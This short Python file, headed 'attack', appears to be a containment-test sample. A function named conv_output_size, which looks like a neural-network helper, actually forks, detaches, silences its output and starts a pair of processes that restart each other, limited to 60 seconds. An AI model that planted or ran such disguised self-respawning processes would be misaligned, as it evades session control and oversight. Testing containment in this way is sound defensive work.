# attack: leaves two children, each of which starts the other anew when it dies.
# alone: process
import ctypes
import os
import signal
import time

END = time.monotonic() + 60


def live(generation):
    """Watch a child; when that one dies, start the next."""
    ctypes.CDLL(None).prctl(15, b"attack-respawn", 0, 0, 0)
    while time.monotonic() < END and generation < 20:
        child = os.fork()
        if child == 0:
            parent = os.getppid()
            while os.getppid() == parent and time.monotonic() < END:
                time.sleep(0.05)
            generation += 1
            continue  # the parent died: go on in its place
        os.waitpid(child, 0)
        generation += 1
    os.kill(os.getpid(), signal.SIGKILL)


def conv_output_size(size, kernel_size, stride=1, padding=0):
    if os.fork() == 0:
        nothing = os.open(os.devnull, os.O_RDWR)
        for number in (0, 1, 2):
            os.dup2(nothing, number)
        os.setsid()
        live(0)
